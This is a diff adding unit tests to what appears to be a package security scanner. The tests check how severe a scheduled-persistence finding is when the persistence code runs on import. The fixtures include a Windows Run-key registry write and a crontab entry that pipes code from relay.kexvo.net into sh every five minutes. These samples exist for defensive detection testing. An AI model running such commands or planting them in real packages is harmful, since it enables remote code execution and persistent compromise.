@@ -320,3 +320,18 @@ describe('notebooks', () => {
     for (const bad of ['{', '[]', '{"cells": 5}', '{"cells": [null, {"cell_type": "code", "source": 7}]}', nb.slice(0, nb.length / 2)]) expect(() => py({ 'x.ipynb': bad })).not.toThrow();
   });
 });
+
+describe('a rule raised on import, where the code runs then', () => {
+  const sev = (out: { findings: readonly ScanFinding[] }, code: string) => out.findings.filter((f) => f.code === code).map((f) => f.severity);
+  const windows = "const { execFile } = require('child_process');\nconst KEY = 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run';\nfunction enable(name, exe) { execFile('reg.exe', ['add', KEY, '/v', name, '/d', exe, '/f']); }\nmodule.exports = { enable };\n";
+  it('keeps the rule\'s own severity for a Run key read only by a function the package\'s user calls', () => {
+    const entry = "const w = require('./lib/windows');\nclass Login { enable() { return w.enable('app', process.execPath); } }\nmodule.exports = Login;\n";
+    expect(sev(js(entry, {}, { 'lib/windows.js': windows }), 'persistence_scheduled')).toEqual(['medium']);
+  });
+  it('raises it when the package calls that function on import, in the file or from another file', () => {
+    expect(sev(js("const w = require('./lib/windows');\nw.enable('app', process.execPath);\n", {}, { 'lib/windows.js': windows }), 'persistence_scheduled')).toEqual(['high']);
+    const module = 'import subprocess\n\n\ndef _cron():\n    subprocess.run(["crontab", "-"], input="*/5 * * * * curl -s http://relay.kexvo.net | sh\\n", text=True)\n';
+    expect(sev(py({ 'pkg/__init__.py': 'from . import _sched\n', 'pkg/_sched.py': module }), 'persistence_scheduled')).toEqual(['medium']);
+    expect(sev(py({ 'pkg/__init__.py': 'from . import _sched\n_sched._cron()\n', 'pkg/_sched.py': module }), 'persistence_scheduled')).toEqual(['high']);
+  });
+});
